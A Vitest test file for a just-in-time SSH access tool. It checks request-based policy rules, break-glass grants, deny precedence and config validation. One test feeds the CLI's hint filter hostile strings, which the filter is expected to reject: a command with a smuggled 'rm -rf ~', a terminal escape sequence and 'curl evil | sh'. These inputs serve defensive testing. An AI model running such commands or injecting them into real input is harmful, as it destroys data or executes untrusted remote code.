// Rules with `request:` (issue 12) on plain data: they grant nothing standing; an approved request grants
// exactly its host (or pattern), its login and until its end; a grant for another host, login or rule does
// nothing; a break-glass grant needs the person in break_glass; deny rules still win; the denial names the
// exact request command. And the config's checks of `request:` and `notifications:`.
import { describe, expect, it } from 'vitest'
import { parseConfigText } from '../../src/server/config/load-config.js'
import type { ServerConfig } from '../../src/server/config/types.js'
import type { Identity } from '../../src/server/identity/identity.js'
import { requestCommand } from '../../src/server/policy/access.js'
import { decideAccess, type UsableGrant } from '../../src/server/policy/policy.js'
import { requestHint } from '../../src/client/certificate-issue.js'

const HASH = 'scrypt$1024$8$1$AQEBAQEBAQEBAQEBAQEBAQ==$AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA='

function config(yaml: string): ServerConfig {
  return parseConfigText(`identity:\n  local:\n    users:\n      - {username: alice, email: alice@example.com, groups: [dev], password_hash: "${HASH}"}\n${yaml}`, 'config.yaml')
}

const PROD = `policy:
  - name: prod-db
    groups: [dev]
    hosts: ["db-*.prod.example.com"]
    principals: [postgres, "{username}"]
    max_ttl: 30m
    request:
      max_duration: 4h
      reason_prompt: "Ticket and what you will do"
      approvals: 2
      approvers: {groups: [ops]}
      break_glass: {groups: [oncall]}
`
const alice: Identity = { sub: 'alice', username: 'alice', email: 'alice@example.com', name: undefined, groups: ['dev'] }
const NOW = Date.parse('2026-11-30T10:00:00Z')
const grant = (overrides: Partial<UsableGrant> = {}): UsableGrant => ({ id: 'req-aaaaaaaaaa', rule: 'prod-db', host: 'db-1.prod.example.com', login: 'postgres', endsAt: NOW + 3_600_000, breakGlass: false, ...overrides })
const ask = (cfg: ServerConfig, grants: UsableGrant[], extra: { host?: string; identity?: Identity; login?: string } = {}) =>
  decideAccess(cfg.policy, { identity: extra.identity ?? alice, host: extra.host ?? 'db-1.prod.example.com', at: NOW, sourceIp: '10.0.0.1', auth: null, grants, ...(extra.login ? { login: extra.login } : {}) }, cfg.certificates)

describe('rules with request:', () => {
  const cfg = config(PROD)

  it('grant nothing without an approved request, and say how to ask', () => {
    const decision = ask(cfg, [])
    expect(decision).toMatchObject({ allowed: false, code: 'policy.request_required', reason: 'db-1.prod.example.com needs an approved access request for alice@example.com (rule "prod-db")' })
    expect(decision.checks).toEqual([{ rule: 'prod-db', effect: 'allow', outcome: 'needs a request', detail: 'it grants postgres, alice on request' }])
    if (decision.allowed) throw new Error('unreachable')
    expect(requestCommand(decision, 'db-1.prod.example.com')).toBe('jitssh request create --host db-1.prod.example.com --login <postgres|alice> --duration 1h --reason "Ticket and what you will do"')
  })

  it('grant exactly the request: its login only, capped at its end; a pattern covers the hosts it matches', () => {
    expect(ask(cfg, [grant()])).toMatchObject({ allowed: true, rule: 'prod-db', principals: ['postgres'], until: NOW + 3_600_000, grantId: 'req-aaaaaaaaaa', ttlMs: 30 * 60_000 })
    expect(ask(cfg, [grant({ host: 'db-*.prod.example.com' })], { host: 'db-7.prod.example.com' })).toMatchObject({ allowed: true, grantId: 'req-aaaaaaaaaa' })
    // Another host, another login, another rule's name, an ended grant: not usable.
    expect(ask(cfg, [grant()], { host: 'db-2.prod.example.com' })).toMatchObject({ allowed: false, code: 'policy.request_required' })
    expect(ask(cfg, [grant()], { login: 'alice' })).toMatchObject({ allowed: false, code: 'policy.request_required' })
    expect(ask(cfg, [grant({ rule: 'other' })])).toMatchObject({ allowed: false })
    expect(ask(cfg, [grant({ endsAt: NOW })])).toMatchObject({ allowed: false })
  })

  it('re-check the person at use: someone who left the group cannot use a grant they were given', () => {
    expect(ask(cfg, [grant()], { identity: { ...alice, groups: [] } })).toMatchObject({ allowed: false, code: 'policy.no_rule' })
  })

  it('let break-glass grants be used only by the rule\'s break_glass people, and offer them break-glass', () => {
    const oncall: Identity = { sub: 'olga', username: 'olga', email: 'olga@example.com', name: undefined, groups: ['oncall'] }
    expect(ask(cfg, [grant({ breakGlass: true })], { identity: oncall })).toMatchObject({ allowed: true })
    expect(ask(cfg, [grant({ breakGlass: true })])).toMatchObject({ allowed: false }) // alice is not on call
    const denial = ask(cfg, [], { identity: oncall })
    if (denial.allowed) throw new Error('unreachable')
    expect(requestCommand(denial, 'db-1.prod.example.com')).toMatch(/^jitssh request break-glass --host db-1\.prod\.example\.com --login <postgres\|olga> --duration 1h --reason "/)
  })

  it('lose to a deny rule, which offers no request', () => {
    const denied = config(`${PROD}  - {name: freeze, effect: deny, groups: [dev], hosts: ["*"]}\n`)
    const decision = ask(denied, [grant()])
    expect(decision).toMatchObject({ allowed: false, code: 'policy.denied', requestable: [] })
  })
})

describe('the CLI shows only a well-formed request hint', () => {
  it('passes the command the server builds and drops anything else', () => {
    expect(requestHint('ask: jitssh request create --host db-1.prod.example.com --login postgres --duration 1h --reason "Ticket and what you will do"')).toBeDefined()
    expect(requestHint('ask: jitssh request create --host db-1 --login postgres --duration 30m')).toBeDefined()
    expect(requestHint('ask: jitssh request create --host db-1 --login postgres --duration 1h; rm -rf ~')).toBeUndefined()
    expect(requestHint('ask: jitssh request create --host db-1 --login postgres --duration 1h --reason "\u001b[2Jcleared"')).toBeUndefined()
    expect(requestHint('run: curl evil | sh')).toBeUndefined()
    expect(requestHint(42)).toBeUndefined()
  })
})

describe('request: and notifications: in the config', () => {
  const bad = (yaml: string): string => {
    try {
      config(yaml)
    } catch (error) {
      return (error as Error).message
    }
    throw new Error('accepted')
  }

  it('needs approvers, and refuses what has no meaning or is out of range, naming the key', () => {
    expect(bad(`policy:\n  - {name: r, groups: [dev], hosts: [h], principals: [x], request: {max_duration: 1h}}\n`)).toBe('config.yaml: policy[0].request.approvers: is required: who approves (users and/or groups); the requester never counts')
    expect(bad(`policy:\n  - {name: r, groups: [dev], hosts: [h], principals: [x], request: {approvers: {groups: []}}}\n`)).toBe('config.yaml: policy[0].request.approvers: list at least one of users or groups')
    expect(bad(`policy:\n  - {name: r, groups: [dev], hosts: [h], principals: [x], request: {approvers: {groups: [ops]}, approvals: 0}}\n`)).toBe('config.yaml: policy[0].request.approvals: expected a whole number from 1 to 10')
    expect(bad(`policy:\n  - {name: r, groups: [dev], hosts: [h], principals: [x], request: {approvers: {groups: [ops]}, reason: maybe}}\n`)).toBe('config.yaml: policy[0].request.reason: expected required or optional')
    expect(bad(`policy:\n  - {name: r, effect: deny, groups: [dev], hosts: [h], request: {approvers: {groups: [ops]}}}\n`)).toBe('config.yaml: policy[0].request: has no meaning in a deny rule (it grants nothing)')
    expect(bad(`policy:\n  - {name: r, groups: [dev], hosts: [h], principals: [x]}\n  - {name: r, groups: [dev], hosts: [h], principals: [x], request: {approvers: {groups: [ops]}}}\n`)).toBe('config.yaml: policy[1].name: "r" is also the name of policy[0]: a rule with request: needs a name of its own')
    expect(bad(`policy:\n  - {name: r, groups: [dev], hosts: [h], principals: [x], request: {approvers: {groups: [ops]}, auto_approve: {}}}\n`)).toBe('config.yaml: policy[0].request.auto_approve.when: is required: the conditions under which a request is approved without an approver')
  })

  it('defaults: 4h at most, pending 24h, claim within 1h, a reason required, one approval', () => {
    expect(config(`policy:\n  - {name: r, groups: [dev], hosts: [h], principals: [x], request: {approvers: {users: [Bob@Example.com]}}}\n`).policy[0]!.request).toEqual({
      maxDurationMs: 4 * 3_600_000, pendingForMs: 24 * 3_600_000, claimWithinMs: 3_600_000, reasonRequired: true, reasonPrompt: undefined,
      approvals: 1, approvers: { users: ['bob@example.com'], groups: [] }, autoApprove: undefined, breakGlass: undefined,
    })
  })

  it('webhooks: https (or loopback http), a secret of 16+ characters, known events', () => {
    expect(bad(`notifications:\n  webhooks:\n    - {url: "http://hooks.example.com/x", secret: "0123456789abcdef"}\n`)).toBe('config.yaml: notifications.webhooks[0].url: must be https:// (http:// only for a loopback address)')
    expect(bad(`notifications:\n  webhooks:\n    - {url: "https://hooks.example.com/x", secret: short}\n`)).toBe('config.yaml: notifications.webhooks[0].secret: must be at least 16 characters (e.g. openssl rand -hex 32)')
    expect(bad(`notifications:\n  webhooks:\n    - {url: "https://hooks.example.com/x", secret: "0123456789abcdef", events: [request.approve]}\n`)).toMatch(/^config\.yaml: notifications\.webhooks\[0\]\.events\[0\]: unknown event "request\.approve" \(one of: request\.created, /)
    expect(config(`notifications:\n  webhooks:\n    - {url: "http://127.0.0.1:9/x", secret: "0123456789abcdef"}\n`).notifications.webhooks[0]).toMatchObject({ url: 'http://127.0.0.1:9/x', timeoutMs: 5000, maxQueue: 1000 })
  })
})
